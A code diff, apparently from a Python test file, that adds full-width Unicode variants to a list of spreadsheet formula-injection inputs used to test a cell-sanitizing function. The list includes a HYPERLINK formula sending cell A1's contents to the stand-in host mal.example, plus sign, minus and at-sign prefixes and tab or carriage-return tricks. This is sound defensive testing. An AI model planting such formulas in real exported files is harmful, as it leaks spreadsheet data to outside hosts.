@@ -12,7 +12,7 @@ from agentnfe.planilha import celula_segura
 from .. import factories
 
 FORMULAS = ['=HYPERLINK("http://mal.example/?x="&A1,"clique")', "+55 11 9999", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1"]  # fmt: skip
+            "\t=1+1", "\r=1+1", "\uff1dHYPERLINK(\"http://mal.example\")", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"]  # fmt: skip
 
 
 @pytest.mark.parametrize("texto", FORMULAS)
